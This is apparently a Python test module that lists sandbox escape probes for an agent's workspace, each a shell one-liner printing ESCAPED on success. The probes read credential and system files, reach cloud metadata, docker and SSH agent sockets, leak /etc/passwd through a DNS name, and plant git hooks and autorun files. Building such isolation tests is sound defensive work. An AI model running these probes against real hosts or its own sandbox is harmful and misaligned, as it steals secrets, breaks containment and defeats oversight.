"""Escape attempts, one a line: commands that a hostile agent would try, which print ESCAPED on success.

`{...}` is filled in by the test: `secret` and `outside`, a file and a folder of the host beside the workspace, `port`
and `socket`, where the host listens, `abstract`, a socket without a file, `pid`, a process of the host, and `python`.
Those of the groups in HARMLESS may be tried without isolation, too.
"""

from __future__ import annotations

from collections.abc import Iterator

from core.autorun_paths import NAMES

HARMLESS = ("read", "network", "persistence")
_READ = "cat {} 2>/dev/null | grep -q . && echo ESCAPED"
_WRITE = "(: >> {}) 2>/dev/null && echo ESCAPED"
_CALL = """{{python}} -c "
import ctypes
print('ESCAPED' * (ctypes.CDLL(None).syscall({}) >= 0))" """
_CONNECT = """{{python}} -c "
import socket
s = socket.socket(socket.{family}, socket.{kind}); s.settimeout(2); s.{act}; print('ESCAPED')" """


def probes() -> Iterator[tuple[str, str]]:
    """Every try with its name, as `group: what`."""
    yield from _reads()
    yield from _writes()
    yield from _processes()
    yield from _calls()
    yield from _network()
    yield from _persistence()


def _reads() -> Iterator[tuple[str, str]]:
    for path in (
        "{secret}",
        "{outside}/../outside/secret",
        "../outside/secret",
        "/proc/1/root{secret}",
        "/proc/self/root/../..{secret}",
        "/proc/{pid}/root{secret}",
        "/proc/{pid}/environ",
        "/proc/{pid}/cwd/secret",
        "/etc/shadow",
        "/etc/gshadow",
        "/etc/sudoers",
        "/etc/ssh/ssh_config",
        "/etc/fstab",
        "~/.bashrc",
        "/root/.profile",
        "/home/*/.bashrc",
        "/var/log/dpkg.log",
        "/var/lib/dpkg/status",
        "/sys/kernel/uevent_seqnum",
        "/run/utmp",
        "/dev/mem",
        "/dev/kmsg",
        "/dev/sda",
        "/dev/vda",
        "/boot/*",
    ):
        yield f"read: {path}", _READ.format(path)
    yield "read: by a symbolic link", "ln -sf {secret} way; " + _READ.format("way")
    yield "read: by a hard link", "ln {secret} hard 2>/dev/null; " + _READ.format("hard")
    yield "read: a folder beside the workspace", "ls {outside} 2>/dev/null | grep -q secret && echo ESCAPED"


def _writes() -> Iterator[tuple[str, str]]:
    for path in (
        "{secret}",
        "{outside}/new",
        "/proc/1/root{secret}",
        "/etc/passwd",
        "/etc/profile",
        "/etc/ld.so.cache",
        "/usr/bin/env",
        "/usr/local/bin/new",
        "/usr/lib/new",
        "/bin/new",
        "/opt/new",
        "/proc/sys/kernel/core_pattern",
        "/proc/sys/kernel/hostname",
        "/proc/sys/vm/drop_caches",
        "/proc/sysrq-trigger",
        "/proc/{pid}/mem",
        "/sys/power/state",
        "/sys/fs/cgroup/cgroup.procs",
        "{python}",
        "{code}",
    ):
        yield f"write: {path}", _WRITE.format(path)
    yield "write: by a symbolic link", "ln -sf {outside}/made way; echo x > way; [ -e {outside}/made ] && echo ESCAPED"
    yield "write: a device", "mknod device b 8 0 && echo ESCAPED"
    yield "write: a character device", "mknod memory c 1 1 && echo ESCAPED"
    yield "write: the clock", "date -s '2001-01-01' 2>/dev/null && echo ESCAPED"
    yield "write: the name of the host", "hostname escaped 2>/dev/null && echo ESCAPED"


def _processes() -> Iterator[tuple[str, str]]:
    yield "process: a signal to one of the host", "kill -0 {pid} 2>/dev/null && echo ESCAPED"
    yield "process: a look at those of the host", "grep -qs sleep /proc/{pid}/cmdline && echo ESCAPED"
    yield (
        "process: tracing the server",
        "strace -p 2 -o /dev/null 2>/dev/null & sleep .3; kill $! 2>/dev/null && echo ESCAPED",
    )
    yield "process: memory of the server", _READ.format("/proc/2/maps")
    yield "process: environment of the server", _READ.format("/proc/2/environ")
    yield "process: a higher priority", "nice -n -5 true 2>&1 | grep -q . || echo ESCAPED"
    yield "process: to be root by su", "su -c id 2>/dev/null </dev/null | grep -q uid=0 && echo ESCAPED"
    yield (
        "process: to be root by a set-uid copy",
        "cp /usr/bin/id i; chmod u+s i; chown 0 i 2>/dev/null && ./i -u | grep -qx 0 && echo ESCAPED",
    )
    yield "process: namespaces of another", "nsenter -t 1 -m true 2>/dev/null && echo ESCAPED"
    for flags in ("-U", "-Ur", "-m", "-p --fork", "-n", "-i", "-u", "-C"):
        yield f"process: a new namespace {flags}", f"unshare {flags} true 2>/dev/null && echo ESCAPED"
    yield "process: a mount", "mount -t tmpfs none /tmp 2>/dev/null && echo ESCAPED"
    yield "process: to write the system again", "mount -o remount,rw /usr 2>/dev/null && echo ESCAPED"
    yield "process: to take a mount away", "umount -l /etc/passwd 2>/dev/null && echo ESCAPED"
    yield "process: another root", "mkdir -p r; chroot r true 2>&1 | grep -q 'No such file' && echo ESCAPED"
    yield (
        "process: a capability",
        "grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status | grep -qv 0000000000000000 && echo ESCAPED",
    )
    yield "process: privileges by a program", "grep -q 'NoNewPrivs:.1' /proc/self/status || echo ESCAPED"
    yield "process: without a filter", "grep -q 'Seccomp:.2' /proc/self/status || echo ESCAPED"
    yield (
        "process: to type into the terminal",
        "{python} -c \"import fcntl; fcntl.ioctl(0, 0x5412, b'x'); print('ESCAPED')\" 2>/dev/null",
    )


def _calls() -> Iterator[tuple[str, str]]:
    """By their numbers on x86_64 and, where that differs, on aarch64."""
    for name, call in {
        "ptrace": "101, 0, 0, 0, 0",
        "keyctl": "250, 0, -3, 1",
        "add_key": "248, b'user', b'k', b'v', 1, -2",
        "bpf": "321, 0, 0, 0",
        "userfaultfd": "323, 1",
        "perf_event_open": "298, 0, 0, -1, -1, 0",
        "io_uring_setup": "425, 1, ctypes.create_string_buffer(120)",
        "mount": "165, b'none', b'/tmp', b'tmpfs', 0, 0",
        "setns": "308, 0, 0",
        "unshare": "272, 0x10000000",
        "open_by_handle_at": "304, -100, 0, 0",
        "process_vm_readv": "310, 2, 0, 0, 0, 0, 0",
        "syslog": "103, 10, 0, 0",
        "fsopen": "430, b'tmpfs', 0",
        "open_tree": "428, -100, b'/', 1",
    }.items():
        yield f"call: {name}", _CALL.format(call)


def _network() -> Iterator[tuple[str, str]]:
    for name, family, kind, act in (
        ("the host's loopback", "AF_INET", "SOCK_STREAM", "connect(('127.0.0.1', {port}))"),
        ("the host's loopback by another name", "AF_INET", "SOCK_STREAM", "connect(('127.0.1.1', {port}))"),
        ("the host's loopback over IPv6", "AF_INET6", "SOCK_STREAM", "connect(('::1', {port}))"),
        ("the address of the host", "AF_INET", "SOCK_STREAM", "connect(('{address}', {port}))"),
        ("any address", "AF_INET", "SOCK_STREAM", "connect(('0.0.0.0', {port}))"),
        ("a gateway", "AF_INET", "SOCK_STREAM", "connect(('172.17.0.1', 22))"),
        ("the metadata of a cloud", "AF_INET", "SOCK_STREAM", "connect(('169.254.169.254', 80))"),
        ("a name server", "AF_INET", "SOCK_DGRAM", "sendto(b'x', ('8.8.8.8', 53))"),
        ("a name server over IPv6", "AF_INET6", "SOCK_DGRAM", "sendto(b'x', ('2001:4860:4860::8888', 53))"),
        ("a broadcast", "AF_INET", "SOCK_DGRAM", "sendto(b'x', ('255.255.255.255', 67))"),
        ("a ping", "AF_INET", "SOCK_RAW", "sendto(b'x', ('8.8.8.8', 0))"),
        ("a packet", "AF_PACKET", "SOCK_RAW", "bind(('lo', 0))"),
        ("a socket of the host", "AF_UNIX", "SOCK_STREAM", "connect('{socket}')"),
        ("a socket of the host without a file", "AF_UNIX", "SOCK_STREAM", "connect(chr(0) + '{abstract}')"),
        ("a container engine", "AF_UNIX", "SOCK_STREAM", "connect('/var/run/docker.sock')"),
        ("the system bus", "AF_UNIX", "SOCK_STREAM", "connect('/run/dbus/system_bus_socket')"),
        ("the system's log", "AF_UNIX", "SOCK_DGRAM", "connect('/dev/log')"),
        ("a screen", "AF_UNIX", "SOCK_STREAM", "connect(chr(0) + '/tmp/.X11-unix/X0')"),
        ("an agent with keys", "AF_UNIX", "SOCK_STREAM", "connect(__import__('os').environ['SSH_AUTH_SOCK'])"),
        ("the host's loopback as version 6", "AF_INET6", "SOCK_STREAM", "connect(('::ffff:127.0.0.1', {port}))"),
        ("another protocol", "AF_INET", "SOCK_STREAM, 132", "connect(('{address}', {port}))"),
        ("neighbours", "AF_INET", "SOCK_DGRAM", "sendto(b'x', ('224.0.0.251', 5353))"),
        ("neighbours over IPv6", "AF_INET6", "SOCK_DGRAM", "sendto(b'x', ('ff02::fb', 5353))"),
        ("a ping without rights", "AF_INET", "SOCK_DGRAM, 1", "sendto(b'x', ('8.8.8.8', 0))"),
        ("the host of a virtual machine", "AF_VSOCK", "SOCK_STREAM", "connect((2, 1024))"),
    ):
        connect = _CONNECT.format(family=family, kind=kind, act=act).replace("{{", "{").replace("}}", "}")
        yield f"network: {name}", connect + " 2>/dev/null"
    yield "network: by the shell", "(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo ESCAPED"
    yield "network: by curl", "curl -s -m 2 http://127.0.0.1:{port}/ | grep -q . && echo ESCAPED"
    label = "$(head -c 20 /etc/passwd | base32 | tr -d =)"
    yield "network: data in a name", f"getent ahosts {label}.example.org 2>/dev/null | grep -q . && echo ESCAPED"
    yield "network: a repository", "timeout 3 git ls-remote http://127.0.0.1:{port}/ 2>&1 | grep -q . || echo ESCAPED"
    yield "network: a name", "getent ahostsv4 example.org 2>/dev/null | grep -q . && echo ESCAPED"
    yield "network: a route", "ip route add default dev lo 2>/dev/null && echo ESCAPED"
    yield "network: an interface", "ip link add new type dummy 2>/dev/null && echo ESCAPED"


def _persistence() -> Iterator[tuple[str, str]]:
    for name in NAMES:  # a file that stays on the host has led out: `escaping` looks for it
        yield f"persistence: {name}", f"[ -d {name} ] || (echo x > {name}) 2>/dev/null"
        yield f"persistence: {name} by a rename", f"[ -d {name} ] || (echo x > n; mv -fT n {name}) 2>/dev/null"
        yield f"persistence: {name} as a folder", f"mkdir -p {name} 2>/dev/null; (echo x > {name}/new) 2>/dev/null"
    yield "persistence: what exists moved away", "mv .vscode gone 2>/dev/null && echo ESCAPED"
    yield "persistence: a hook of git", "(echo x > .git/hooks/pre-commit) 2>/dev/null && echo ESCAPED"
    yield (
        "persistence: a sample made a hook",
        "mv .git/hooks/pre-commit.sample .git/hooks/pre-commit 2>/dev/null && echo ESCAPED",
    )
    yield "persistence: git's settings", "git config core.fsmonitor /tmp/x 2>/dev/null && echo ESCAPED"
    yield "persistence: git's settings by hand", "(echo x >> .git/config) 2>/dev/null && echo ESCAPED"
    yield (
        "persistence: git's settings by a rename",
        "cp .git/config c; mv -fT c .git/config 2>/dev/null && echo ESCAPED",
    )
    yield "persistence: settings of a worktree", "git config --worktree core.hooksPath /tmp 2>/dev/null && echo ESCAPED"
    yield "persistence: settings of another folder", "(echo ../x > .git/commondir) 2>/dev/null && echo ESCAPED"
    yield (
        "persistence: settings of another folder by a rename",
        "echo ../x > c; mv -fT c .git/commondir 2>/dev/null && echo ESCAPED",
    )
    yield "persistence: another .git", "mv .git old 2>/dev/null && echo ESCAPED"
    yield "persistence: a module's hook", "mkdir -p .git/modules/new/hooks 2>/dev/null && echo ESCAPED"
